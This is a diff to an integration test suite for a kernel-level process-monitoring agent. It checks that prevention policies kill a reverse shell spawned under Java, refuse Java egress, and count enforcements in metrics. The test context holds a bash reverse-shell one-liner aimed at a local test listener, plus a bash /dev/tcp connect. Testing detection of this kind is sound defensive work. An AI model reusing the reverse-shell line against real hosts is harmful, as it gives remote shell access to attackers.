@@ -7,7 +7,7 @@
  * shared host (other tests' java services included) are never selected.
  */
 import assert from 'node:assert/strict';
-import { execFileSync } from 'node:child_process';
+import { execFileSync, spawn } from 'node:child_process';
 import { mkdirSync, readdirSync, readFileSync, rmdirSync, writeFileSync } from 'node:fs';
 import { connect, createServer, type Server } from 'node:net';
 import { join } from 'node:path';
@@ -152,6 +152,55 @@ function loadedProgramIds(): Set<number> {
   return new Set(programs.map((program) => program.id));
 }
 
+/** The process_kprobe events event.live streams, from the moment the subscription started. */
+async function liveKprobes(client: ApiClient) {
+  const received: ApiEvent[] = [];
+  let started = false;
+  const subscription = client.trpc.event.live.subscribe(
+    { kinds: ['process_kprobe'] },
+    {
+      onStarted: () => (started = true),
+      onData: (data) => received.push(data.data as ApiEvent),
+    },
+  );
+  const deadline = Date.now() + 10_000;
+  while (!started && Date.now() < deadline) await sleep(50);
+  assert.ok(started, 'the live subscription started');
+  return {
+    unsubscribe: () => subscription.unsubscribe(),
+    /** The first streamed event `test` accepts, waited for at most 10 s. */
+    async waitFor(test: (event: ApiEvent) => boolean): Promise<ApiEvent> {
+      const until = Date.now() + 10_000;
+      for (;;) {
+        const found = received.find(test);
+        if (found) return found;
+        assert.ok(Date.now() < until, `not streamed; received ${received.length} kprobe events`);
+        await sleep(100);
+      }
+    },
+  };
+}
+
+/** The value of one series of the agent's /metrics, 0 when it is absent. */
+async function metricValue(url: string, series: string): Promise<number> {
+  const text = await (await fetch(`${url}/metrics`)).text();
+  const line = text.split('\n').find((l) => l.startsWith(`${series} `));
+  return line ? Number(line.slice(series.length + 1)) : 0;
+}
+
+/**
+ * Connects from a bash that is in the lab cgroup, as java is, but is not java: outside the
+ * allow-list policy's scope. Resolves with bash's exit code (0 when the connect succeeded).
+ */
+async function connectFromLabBash(cgroup: string, port: number): Promise<number> {
+  const script = `echo $$ > ${cgroup}/cgroup.procs && exec 3<>/dev/tcp/127.0.0.1/${port}`;
+  const child = spawn('bash', ['-c', script], { stdio: 'ignore' });
+  return new Promise((resolve, reject) => {
+    child.once('error', reject);
+    child.once('exit', (code, signal) => resolve(code ?? (signal ? 128 : 1)));
+  });
+}
+
 async function stopAgent(agent: RunningAgent): Promise<void> {
   agent.child.kill('SIGTERM');
   const run = await collect(agent.child, 30_000);
@@ -176,6 +225,7 @@ describe('prevention policies on the real kernel', { skip, timeout: 300_000 }, (
   test('the reverse shell is killed at exec under java, which keeps serving', async () => {
     const agent = await startAgentProcess(scratch.db('kill.db'), ['--policy', KILL_POLICY]);
     const client = createApiClient({ url: agent.url });
+    const live = await liveKprobes(client);
     const shell = await startShellListener(['id', 'exit'], { timeoutMs: 5_000 });
     const payload = `bash -i >& /dev/tcp/127.0.0.1/${shell.port} 0>&1`;
     const directory = await startDirectoryStandIn(payload);
@@ -211,6 +261,10 @@ describe('prevention policies on the real kernel', { skip, timeout: 300_000 }, (
         'the shell exited by SIGKILL',
       );
 
+      // Streamed over event.live (the WebSocket) as it was stored, with its store id.
+      const streamed = await live.waitFor((e) => e.id === killed.id);
+      assert.deepEqual(kprobe(streamed), body);
+
       const [listed] = await client.trpc.policy.list.query();
       assert.equal(listed?.name, 'kill-shells-under-java');
       assert.equal(listed?.mode, 'enforce');
@@ -221,6 +275,7 @@ describe('prevention policies on the real kernel', { skip, timeout: 300_000 }, (
         /proctrail_enforcements_total\{policy="kill-shells-under-java",action="KPROBE_ACTION_SIGKILL",outcome="blocked"\} 1/,
       );
     } finally {
+      live.unsubscribe();
       await stopJava(service);
       await directory.close();
       await shell.close();
@@ -257,6 +312,10 @@ describe('prevention policies on the real kernel', { skip, timeout: 300_000 }, (
       const refusal = service.log.find((line) => line.includes(`:${directory.port}/`));
       assert.match(refusal ?? '', /lookup of .* failed: .*(Operation not permitted|refused)/);
 
+      // A bash in the same lab cgroup is not java: the policy does not reach it, and the
+      // refused destination answers it.
+      assert.equal(await connectFromLabBash(cgroup, directory.port), 0, 'lab bash connected');
+
       // The test's own node is not java: the same destination answers it.
       await new Promise<void>((resolve, reject) => {
         const socket = connect(directory.port, '127.0.0.1', () => {
@@ -276,6 +335,9 @@ describe('prevention policies on the real kernel', { skip, timeout: 300_000 }, (
         body.message ?? '',
         new RegExp(`refused a connect to 127\\.0\\.0\\.1:${directory.port}`),
       );
+      const series =
+        'proctrail_enforcements_total{policy="java-egress-allow-list",action="KPROBE_ACTION_OVERRIDE",outcome="blocked"}';
+      assert.equal(await metricValue(agent.url, series), 1, 'one refusal counted');
     } finally {
       await stopJava(service);
       await client.close();
@@ -330,6 +392,24 @@ describe('prevention policies on the real kernel', { skip, timeout: 300_000 }, (
       const [listed] = await client.trpc.policy.list.query();
       assert.equal(listed?.mode, 'dry-run');
       assert.equal(listed?.blocked, 0);
+      // Counted as stored: the store and the counter are updated by the same batch, so wait
+      // (bounded) until they agree rather than read one ahead of the other.
+      const prefix = 'proctrail_enforcements_total{policy="kill-shells-under-java"';
+      const dryRunSeries = `${prefix},action="KPROBE_ACTION_POST",outcome="dry-run"}`;
+      let counted = 0;
+      let stored = events.length;
+      for (let attempt = 0; attempt < 20; attempt++) {
+        counted = await metricValue(agent.url, dryRunSeries);
+        stored = (await enforcementEvents(client, 'kill-shells-under-java')).length;
+        if (counted === stored) break;
+        await sleep(250);
+      }
+      assert.equal(counted, stored, 'each would-be kill counted as dry-run');
+      assert.equal(
+        await metricValue(agent.url, `${prefix},action="KPROBE_ACTION_SIGKILL",outcome="blocked"}`),
+        0,
+        'nothing counted as blocked',
+      );
     } finally {
       await stopJava(service);
       await directory.close();
